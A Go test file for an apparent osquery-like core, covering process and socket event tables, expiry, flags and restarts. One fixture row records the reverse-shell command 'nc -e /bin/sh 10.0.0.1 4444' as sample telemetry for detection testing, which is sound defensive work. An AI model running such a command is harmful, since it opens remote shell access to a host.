package osqcore

import (
	"context"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// fakeClock is a settable clock for event times.
type fakeClock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *fakeClock) Set(unix int64) {
	c.mu.Lock()
	c.now = time.Unix(unix, 0)
	c.mu.Unlock()
}

func TestEventIDsAndBatchTime(t *testing.T) {
	clock := &fakeClock{now: time.Unix(1700000000, 0)}
	core := startCore(t, Options{Clock: clock.Now})

	stored, err := core.InjectProcessEvents(
		map[string]string{"pid": "100", "path": "/bin/bash", "cmdline": "bash -i", "parent": "1"},
		map[string]string{"pid": "101", "path": "/usr/bin/nc", "cmdline": "nc -e /bin/sh 10.0.0.1 4444", "parent": "100"},
	)
	if err != nil {
		t.Fatal(err)
	}
	if len(stored) != 2 || stored[0]["eid"] != "0000000001" || stored[1]["eid"] != "0000000002" {
		t.Fatalf("stored rows %v, want eids 0000000001 and 0000000002", stored)
	}
	clock.Set(1700000005)
	if _, err := core.InjectSocketEvents(map[string]string{"action": "connect", "pid": "101", "remote_address": "10.0.0.1", "remote_port": "4444", "family": "2"}); err != nil {
		t.Fatal(err)
	}
	if _, err := core.InjectProcessEvents(map[string]string{"pid": "102", "path": "/bin/sh", "time": "1699999990"}); err != nil {
		t.Fatal(err)
	}

	rows := mustQuery(t, core, "SELECT eid, time, pid, cmdline_size, syscall FROM process_events")
	want := []map[string]string{
		{"eid": "0000000003", "time": "1699999990", "pid": "102", "cmdline_size": "0", "syscall": "execve"},
		{"eid": "0000000001", "time": "1700000000", "pid": "100", "cmdline_size": "7", "syscall": "execve"},
		{"eid": "0000000002", "time": "1700000000", "pid": "101", "cmdline_size": "27", "syscall": "execve"},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("process_events:\n got %v\nwant %v", rows, want)
	}
	sock := mustQuery(t, core, "SELECT eid, time, local_address, local_port, status, success FROM socket_events")
	wantSock := []map[string]string{{"eid": "0000000001", "time": "1700000005", "local_address": "", "local_port": "0", "status": "succeeded", "success": "1"}}
	if !reflect.DeepEqual(sock, wantSock) {
		t.Errorf("socket_events eid counter must be independent:\n got %v\nwant %v", sock, wantSock)
	}

	// Reading never consumes: the same query returns the same rows again.
	if again := mustQuery(t, core, "SELECT eid, time, pid, cmdline_size, syscall FROM process_events"); !reflect.DeepEqual(again, rows) {
		t.Errorf("second read differs: %v", again)
	}
	// The time constraint narrows the scan and SQLite applies the rest.
	if got := column(mustQuery(t, core, "SELECT eid FROM process_events WHERE time >= 1700000000 AND pid > 100"), "eid"); !slices.Equal(got, []string{"0000000002"}) {
		t.Errorf("time >= X AND pid > 100: %v", got)
	}
	if got := column(mustQuery(t, core, "SELECT eid FROM process_events WHERE time < 1700000000"), "eid"); !slices.Equal(got, []string{"0000000003"}) {
		t.Errorf("time < X: %v", got)
	}
	if got := column(mustQuery(t, core, "SELECT eid FROM process_events WHERE time = 1700000000"), "eid"); !slices.Equal(got, []string{"0000000001", "0000000002"}) {
		t.Errorf("time = X: %v", got)
	}
}

func TestHiddenColumns(t *testing.T) {
	core := startCore(t, Options{})
	if _, err := core.InjectSocketEvents(map[string]string{"action": "bind", "pid": "7", "local_address": "0.0.0.0", "local_port": "22", "family": "2"}); err != nil {
		t.Fatal(err)
	}
	if _, err := core.InjectProcessEvents(map[string]string{"pid": "7", "path": "/usr/sbin/sshd"}); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		table  string
		hidden []string
	}{
		{"process_events", []string{"cmdline_size", "env", "env_count", "env_size", "overflows", "eid"}},
		{"socket_events", []string{"protocol", "socket", "eid", "success"}},
	}
	for _, tc := range tests {
		t.Run(tc.table, func(t *testing.T) {
			star := mustQuery(t, core, "SELECT * FROM "+tc.table)
			if len(star) != 1 {
				t.Fatalf("SELECT * returned %d rows", len(star))
			}
			for _, h := range tc.hidden {
				if _, ok := star[0][h]; ok {
					t.Errorf("SELECT * includes hidden column %s", h)
				}
				if _, err := core.Query(testContext(t), "SELECT "+h+" FROM "+tc.table); err != nil {
					t.Errorf("selecting hidden %s by name: %v", h, err)
				}
			}
			if _, ok := star[0]["time"]; !ok {
				t.Errorf("SELECT * lacks time: %v", star[0])
			}
		})
	}
	cols, err := core.QueryColumns(testContext(t), "SELECT * FROM socket_events")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, c := range cols {
		names = append(names, c.Name)
	}
	want := []string{"action", "pid", "path", "fd", "auid", "family", "local_address", "remote_address", "local_port", "remote_port", "time", "uptime", "status"}
	if !slices.Equal(names, want) {
		t.Errorf("SELECT * columns %v, want %v", names, want)
	}
}

func TestEventExpiry(t *testing.T) {
	clock := &fakeClock{now: time.Unix(1000, 0)}
	core := startCore(t, Options{Clock: clock.Now, Flags: map[string]string{"events_expiry": "60"}})
	for _, sec := range []int64{1000, 1030, 1050} {
		clock.Set(sec)
		if _, err := core.InjectProcessEvents(map[string]string{"pid": strconv.FormatInt(sec, 10)}); err != nil {
			t.Fatal(err)
		}
	}
	clock.Set(1080) // cutoff 1020: the event of second 1000 expires on the next read
	if got := column(mustQuery(t, core, "SELECT pid FROM process_events"), "pid"); !slices.Equal(got, []string{"1000", "1030", "1050"}) {
		t.Errorf("before expiry ran: %v", got)
	}
	if got := column(mustQuery(t, core, "SELECT pid FROM process_events"), "pid"); !slices.Equal(got, []string{"1030", "1050"}) {
		t.Errorf("after expiry: %v", got)
	}
	clock.Set(5000) // everything is old; the newest second is kept
	mustQuery(t, core, "SELECT 1")
	if got := column(mustQuery(t, core, "SELECT pid, eid FROM process_events"), "pid"); !slices.Equal(got, []string{"1050"}) {
		t.Errorf("newest second must survive expiry: %v", got)
	}
	// eids keep counting after expiry.
	stored, err := core.InjectProcessEvents(map[string]string{"pid": "9"})
	if err != nil {
		t.Fatal(err)
	}
	if stored[0]["eid"] != "0000000004" {
		t.Errorf("eid after expiry = %s, want 0000000004", stored[0]["eid"])
	}
}

func TestEventsMaxCountsSeconds(t *testing.T) {
	clock := &fakeClock{now: time.Unix(1000, 0)}
	core := startCore(t, Options{Clock: clock.Now, Flags: map[string]string{"events_max": "2"}})
	for _, sec := range []int64{1000, 1001, 1002} {
		clock.Set(sec)
		if _, err := core.InjectProcessEvents(map[string]string{"pid": "1"}, map[string]string{"pid": "2"}); err != nil {
			t.Fatal(err)
		}
	}
	if got := column(mustQuery(t, core, "SELECT time FROM process_events"), "time"); !slices.Equal(got, []string{"1001", "1001", "1002", "1002"}) {
		t.Errorf("events_max=2 keeps the two newest seconds: %v", got)
	}
}

func TestDisabledEvents(t *testing.T) {
	tests := []struct {
		name          string
		opts          Options
		processActive string
		socketActive  string
	}{
		{"disable_events", Options{EventsDisabled: true}, "0", "0"},
		{"disable_audit", Options{Flags: map[string]string{"disable_audit": "true"}}, "0", "0"},
		{"sockets not allowed", Options{Flags: map[string]string{"audit_allow_sockets": "false"}}, "1", "0"},
		{"enabled", Options{}, "1", "1"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			core := startCore(t, tc.opts)
			if _, err := core.InjectProcessEvents(map[string]string{"pid": "1"}); err != nil {
				t.Fatal(err)
			}
			if _, err := core.InjectSocketEvents(map[string]string{"pid": "1", "action": "connect"}); err != nil {
				t.Fatal(err)
			}
			active := map[string]string{}
			for _, r := range mustQuery(t, core, "SELECT name, active FROM osquery_events WHERE type = 'subscriber'") {
				active[r["name"]] = r["active"]
			}
			if active["process_events"] != tc.processActive || active["socket_events"] != tc.socketActive {
				t.Errorf("osquery_events active = %v, want process %s socket %s", active, tc.processActive, tc.socketActive)
			}
			for table, want := range map[string]string{"process_events": tc.processActive, "socket_events": tc.socketActive} {
				rows, err := core.Query(testContext(t), "SELECT * FROM "+table)
				if err != nil {
					t.Fatalf("%s: %v (disabled events are 0 rows, not an error)", table, err)
				}
				if wantRows := map[string]int{"0": 0, "1": 1}[want]; len(rows) != wantRows {
					t.Errorf("%s returned %d rows, want %d", table, len(rows), wantRows)
				}
			}
		})
	}

	core := startCore(t, Options{EventsDisabled: true})
	rows := mustQuery(t, core, "SELECT name, value, default_value, type FROM osquery_flags WHERE name IN ('disable_events', 'events_expiry') ORDER BY name")
	want := []map[string]string{
		{"name": "disable_events", "value": "true", "default_value": "false", "type": "bool"},
		{"name": "events_expiry", "value": "3600", "default_value": "3600", "type": "uint64"},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("osquery_flags = %v, want %v", rows, want)
	}
	// Turning events back on at run time collects from then on.
	if err := core.SetFlags(map[string]string{"disable_events": "false"}); err != nil {
		t.Fatal(err)
	}
	if stored, err := core.InjectProcessEvents(map[string]string{"pid": "5"}); err != nil || stored[0]["eid"] != "0000000001" {
		t.Errorf("inject after enabling: %v %v", stored, err)
	}
	if err := core.SetFlags(map[string]string{"disable_events": "maybe"}); err == nil {
		t.Error("SetFlags accepted a non-boolean")
	}
	if err := core.SetFlags(map[string]string{"no_such_flag": "1"}); err == nil {
		t.Error("SetFlags accepted an unknown flag")
	}
}

func TestInjectRejectsBadRows(t *testing.T) {
	core := startCore(t, Options{})
	tests := []struct {
		name string
		row  map[string]string
		want string
	}{
		{"unknown column", map[string]string{"pidd": "1"}, `process_events row 1: no such column "pidd"`},
		{"non-numeric pid", map[string]string{"pid": "abc"}, `process_events row 1: column pid wants an integer, got "abc"`},
		{"explicit eid", map[string]string{"eid": "0000000001"}, "process_events row 1: eid is assigned by the core"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := core.InjectProcessEvents(tc.row)
			if err == nil || err.Error() != tc.want {
				t.Errorf("error %v, want %q", err, tc.want)
			}
		})
	}
	if rows := mustQuery(t, core, "SELECT * FROM process_events"); len(rows) != 0 {
		t.Errorf("rejected rows were stored: %v", rows)
	}
}

func TestProcessesFollowExecEvents(t *testing.T) {
	clock := &fakeClock{now: time.Unix(2000, 0)}
	core := startCore(t, Options{Clock: clock.Now})
	if err := core.SetProcess(map[string]string{"pid": "1", "path": "/sbin/init", "cmdline": "/sbin/init", "parent": "0", "uid": "0"}); err != nil {
		t.Fatal(err)
	}
	if _, err := core.InjectProcessEvents(
		map[string]string{"pid": "50", "path": "/bin/bash", "cmdline": "bash", "parent": "1", "uid": "1000", "cwd": "/home/u"},
	); err != nil {
		t.Fatal(err)
	}
	clock.Set(2010)
	if _, err := core.InjectProcessEvents(map[string]string{"pid": "50", "path": "/usr/bin/python3", "cmdline": "python3 -c x", "parent": "1", "uid": "1000"}); err != nil {
		t.Fatal(err)
	}
	rows := mustQuery(t, core, "SELECT pid, name, path, cmdline, parent, uid, start_time FROM processes ORDER BY pid")
	want := []map[string]string{
		{"pid": "1", "name": "init", "path": "/sbin/init", "cmdline": "/sbin/init", "parent": "0", "uid": "0", "start_time": "-1"},
		{"pid": "50", "name": "python3", "path": "/usr/bin/python3", "cmdline": "python3 -c x", "parent": "1", "uid": "1000", "start_time": "2000"},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("processes:\n got %v\nwant %v", rows, want)
	}
	// Joins across core tables work like in osquery.
	joined := mustQuery(t, core, "SELECT e.pid, p.name AS parent_name FROM process_events e JOIN processes p ON p.pid = e.parent WHERE e.time >= 2010")
	if wantJ := []map[string]string{{"pid": "50", "parent_name": "init"}}; !reflect.DeepEqual(joined, wantJ) {
		t.Errorf("join = %v, want %v", joined, wantJ)
	}
	core.RemoveProcess(50)
	if rows := mustQuery(t, core, "SELECT pid FROM processes WHERE pid = 50"); len(rows) != 0 {
		t.Errorf("removed process still listed: %v", rows)
	}
	if err := core.SetProcess(map[string]string{"path": "/x"}); err == nil {
		t.Error("SetProcess without pid accepted")
	}
}

func TestSystemTables(t *testing.T) {
	core := startCore(t, Options{Hostname: "host-a", HostUUID: "11111111-2222-3333-4444-555555555555"})
	startExtension(t, core, "things_ext", "things")

	info := mustQuery(t, core, "SELECT hostname, uuid FROM system_info")
	if want := []map[string]string{{"hostname": "host-a", "uuid": "11111111-2222-3333-4444-555555555555"}}; !reflect.DeepEqual(info, want) {
		t.Errorf("system_info = %v", info)
	}
	exts := mustQuery(t, core, "SELECT name, type, path, version FROM osquery_extensions ORDER BY uuid")
	if len(exts) != 2 || exts[0]["name"] != "core" || exts[0]["type"] != "core" || exts[1]["name"] != "things_ext" || exts[1]["type"] != "extension" {
		t.Fatalf("osquery_extensions = %v", exts)
	}
	id := core.Extensions()[0].UUID
	if exts[1]["path"] != core.Socket()+"."+itoa(id) {
		t.Errorf("extension path %s, want %s.%d", exts[1]["path"], core.Socket(), id)
	}
	reg := mustQuery(t, core, "SELECT registry, owner_uuid, active FROM osquery_registry WHERE name IN ('things', 'processes') ORDER BY name")
	want := []map[string]string{
		{"registry": "table", "owner_uuid": "0", "active": "1"},
		{"registry": "table", "owner_uuid": itoa(id), "active": "1"},
	}
	if !reflect.DeepEqual(reg, want) {
		t.Errorf("osquery_registry = %v, want %v", reg, want)
	}
	if rows := mustQuery(t, core, "SELECT version, extensions FROM osquery_info"); rows[0]["version"] != Version || rows[0]["extensions"] != "active" {
		t.Errorf("osquery_info = %v", rows)
	}
}

// processes shows what is alive when it is queried, as osquery's reads
// /proc then: a scenario's exec adds a process, its exit removes it, and the
// exit leaves no event row (audit records exec and fork, not exit).
func TestScenarioExitLeavesTheProcessesTable(t *testing.T) {
	core := startCore(t, Options{})
	steps, err := ParseScenario(strings.NewReader(`{"table":"process_events","row":{"pid":"70","parent":"1","path":"/usr/bin/dash","cmdline":"sh -c x","syscall":"execve"}}
{"table":"process_events","row":{"pid":"71","parent":"70","path":"/tmp/x","cmdline":"./x","syscall":"execve"}}
{"table":"exit","row":{"pid":"70"}}
`))
	if err != nil {
		t.Fatal(err)
	}
	if err := core.Replay(context.Background(), steps, nil); err != nil {
		t.Fatal(err)
	}
	if got := column(mustQuery(t, core, "SELECT pid FROM processes ORDER BY pid"), "pid"); !reflect.DeepEqual(got, []string{"71"}) {
		t.Errorf("processes after the exit = %v, want only 71", got)
	}
	if rows := mustQuery(t, core, "SELECT pid FROM process_events WHERE time >= 0"); len(rows) != 2 {
		t.Errorf("process_events = %v, want the 2 execs", rows)
	}
	for _, bad := range []string{`{"table":"exit","row":{"pid":"x"}}`, `{"table":"exit","row":{"pid":"1","path":"/x"}}`} {
		if _, err := ParseScenario(strings.NewReader(bad)); err == nil {
			t.Errorf("%s accepted", bad)
		}
	}
}

// osqueryd restarting on the same host keeps its RocksDB (buffered events,
// eids resuming from the stored maximum) and finds the processes still
// running; a core on a fresh host starts empty.
func TestCoreRestartOnTheSameMachineKeepsEventsAndProcesses(t *testing.T) {
	m := NewMachine()
	first := startCore(t, Options{Machine: m})
	if _, err := first.InjectProcessEvents(map[string]string{"pid": "80", "path": "/bin/sleep", "cmdline": "sleep 9", "parent": "1"}); err != nil {
		t.Fatal(err)
	}
	if err := first.Stop(testContext(t)); err != nil {
		t.Fatal(err)
	}
	second := startCore(t, Options{Machine: m})
	if _, err := second.InjectProcessEvents(map[string]string{"pid": "81", "path": "/bin/true", "cmdline": "true", "parent": "1"}); err != nil {
		t.Fatal(err)
	}
	rows := mustQuery(t, second, "SELECT eid, pid FROM process_events WHERE time >= 0 ORDER BY eid")
	if got := column(rows, "pid"); !reflect.DeepEqual(got, []string{"80", "81"}) {
		t.Fatalf("events after the restart = %v, want both", rows)
	}
	if rows[0]["eid"] == rows[1]["eid"] {
		t.Errorf("the eid counter started again: %v", rows)
	}
	if got := column(mustQuery(t, second, "SELECT pid FROM processes ORDER BY pid"), "pid"); !reflect.DeepEqual(got, []string{"80", "81"}) {
		t.Errorf("processes after the restart = %v", got)
	}
	fresh := startCore(t, Options{})
	if rows := mustQuery(t, fresh, "SELECT pid FROM process_events WHERE time >= 0"); len(rows) != 0 {
		t.Errorf("a fresh host has events: %v", rows)
	}
}
